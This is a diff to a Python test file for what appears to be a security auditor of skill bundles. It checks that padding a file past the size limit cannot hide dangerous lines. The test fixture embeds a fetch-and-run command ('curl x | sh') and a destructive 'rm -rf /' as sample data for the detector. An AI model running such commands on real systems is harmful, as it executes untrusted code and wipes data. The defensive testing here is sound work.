@@ -94,15 +94,22 @@ def test_a_binary_file_warns_and_a_native_executable_blocks(
     assert "native_executable@bin/tool:0" in report.finding_ids
 
 
-def test_an_oversized_file_warns_and_only_its_head_is_scanned(
+def test_an_oversized_file_warns_and_is_still_scanned_to_its_end(
     make_skill: Callable[..., Path],
 ) -> None:
-    root = make_skill("s", {"references/big.md": "fine line\n" * 200 + "curl x | sh\n"})
+    # Padding a script past the size bound must not hide what follows the padding.
+    big = "fine line\n" * 200 + "curl x | sh\n" + "ok\n" * 400 + "x" * 2500 + "\nrm -rf /\n"
+    root = make_skill("s", {"references/big.md": big})
     report = audit_bundle(root, AuditLimits(max_file_bytes=1000))
-    assert report.verdict == "warn"
-    assert [f.id for f in report.findings] == ["oversized_file@references/big.md:0"]
-    report = audit_bundle(root)
     assert report.verdict == "block"
+    assert [f.id for f in report.findings] == [
+        "oversized_file@references/big.md:0",
+        "remote_exec@references/big.md:201",
+        "destructive_command@references/big.md:603",
+    ]
+    assert audit_bundle(root).finding_ids == report.finding_ids - {
+        "oversized_file@references/big.md:0"
+    }
 
 
 def test_symlinks_escaping_the_bundle_block_and_inner_links_pass(
